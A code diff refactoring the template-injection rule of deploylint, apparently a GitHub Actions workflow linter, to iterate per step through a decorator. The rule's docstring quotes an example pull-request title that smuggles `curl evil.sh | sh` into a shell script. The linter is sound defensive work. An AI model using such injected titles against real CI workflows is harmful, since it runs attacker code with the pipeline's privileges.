@@ -5,6 +5,7 @@ from deploylint.expressions import attacker_controlled
 from deploylint.findings import Confidence, Finding, Severity
 from deploylint.models.workflow import Job, Step, Workflow
 from deploylint.registry import Kind, rule
+from deploylint.rules.workflow._levels import each_step
 from deploylint.rules.workflow._util import env_is_tainted, script_sinks
 from deploylint.rules.workflow._via_env import via_env
 
@@ -69,7 +70,8 @@ _SEVERITY = {Confidence.MEDIUM: Severity.WARNING, Confidence.LOW: Severity.INFO}
     aliases=("template-injection", "CKV_GHA_2"),
     fixable=True,
 )
-def template_injection(wf: Workflow, ctx: Context) -> Iterator[Finding]:
+@each_step
+def template_injection(wf: Workflow, job: Job, step: Step, ctx: Context) -> Iterator[Finding]:
     """## Why
     `${{ }}` is replaced *before* the shell (or `actions/github-script`) sees the script, so a
     pull request title such as `a"; curl evil.sh | sh; echo "` becomes code running with the
@@ -122,19 +124,17 @@ def template_injection(wf: Workflow, ctx: Context) -> Iterator[Finding]:
     contexts of unknown origin such as `steps.*.outputs.*`; deploylint reports only values it can
     trace to attacker-controlled text, or composite-action inputs.
     """
-    for job in wf.jobs:
-        for step in job.steps:
-            for label, value in script_sinks(step):
-                for path, node, e in value.flowing():
-                    got = _why(wf, job, step, path)
-                    if got is None:
-                        continue
-                    why, conf = got
-                    fix = via_env(wf, job, step, value, node, e, path) if value is step.run else None
-                    yield ctx.finding(
-                        value.node_span(node),
-                        f"'{value.value[node.start : node.end]}' {why} and is expanded into '{label}'; pass it through 'env:'",
-                        confidence=conf,
-                        severity=_SEVERITY.get(conf),
-                        fix=fix,
-                    )
+    for label, value in script_sinks(step):
+        for path, node, e in value.flowing():
+            got = _why(wf, job, step, path)
+            if got is None:
+                continue
+            why, conf = got
+            fix = via_env(wf, job, step, value, node, e, path) if value is step.run else None
+            yield ctx.finding(
+                value.node_span(node),
+                f"'{value.value[node.start : node.end]}' {why} and is expanded into '{label}'; pass it through 'env:'",
+                confidence=conf,
+                severity=_SEVERITY.get(conf),
+                fix=fix,
+            )
